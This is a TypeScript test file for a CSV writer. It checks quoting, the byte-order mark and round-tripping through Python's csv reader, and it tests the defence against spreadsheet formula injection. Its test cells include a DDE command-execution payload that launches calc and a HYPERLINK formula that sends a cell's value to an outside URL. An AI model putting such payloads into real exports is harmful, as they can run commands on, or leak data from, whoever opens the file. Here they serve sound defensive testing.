import { spawnSync } from 'node:child_process';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvParts } from './csv';

const csvFile = (rows: string[][]) => [...csvParts(rows)].join('');

/** Reads as Python's own library does, in the default dialect, which is Excel's. */
function read(file: string): string[][] {
  const script =
    'import csv, io, json, sys; data = sys.stdin.buffer.read().decode("utf-8-sig"); ' +
    'json.dump(list(csv.reader(io.StringIO(data, newline=""), strict=True)), sys.stdout)';
  const { stdout, stderr, status } = spawnSync('python3', ['-c', script], { input: file, encoding: 'utf8' });
  if (status !== 0) throw new Error(stderr);
  return JSON.parse(stdout) as string[][];
}

describe('a CSV file', () => {
  it('is as RFC 4180 has it, with the mark that Excel looks for', () => {
    expect(
      csvFile([
        ['a', 'b'],
        ['x, y', 'say "z"'],
        ['', 'one\ntwo'],
      ]),
    ).toBe('\ufeffa,b\r\n"x, y","say ""z"""\r\n,"one\ntwo"\r\n');
  });

  it.each([
    '=1+1',
    '+49 30 901820',
    '-2',
    '@SUM(A1)',
    '=HYPERLINK("https://example.org?"&A1)',
    '\t=1+1',
    ' =1+1',
    '\r=1',
    '=1+1\n',
    "=cmd|' /C calc'!A0\nsecond line",
    '\uff1d1+1',
  ])('holds nothing that a spreadsheet computes: %j', (cell) => {
    expect(csvFile([[cell, 'x']])).toBe(`\ufeff"'${cell.replaceAll('"', '""')}",x\r\n`);
  });

  it.each(['2026-12-31', 'RR123456789DE', 'a=b', '1-2', "'x", 'Ärger, überall'])('leaves alone %j', (cell) => {
    expect(csvFile([['x', cell]])).not.toContain("'='");
    expect(csvFile([['x', cell]]).replaceAll('"', '')).toBe(`\ufeffx,${cell}\r\n`);
  });

  it.runIf(process.platform === 'linux')('is read as it was by another library', () => {
    const cell = fc.oneof(
      fc.string({ unit: 'grapheme', maxLength: 40 }),
      fc.string({
        unit: fc.constantFrom('"', ',', '\r\n', '\n', ';', 'x', ' ', '=', '字', '👩‍👩‍👧‍👦', 'e\u0301'),
        maxLength: 40,
      }),
    );
    const row = fc.array(cell, { minLength: 3, maxLength: 3 });
    const rows = fc.sample(row, { numRuns: 1000, seed: 3 });
    const flat = rows.flat();
    const cells = read(csvFile(rows)).flat();
    expect(cells.map((one, i) => (one === `'${flat[i]}` ? one.slice(1) : one))).toEqual(flat);
  });
});
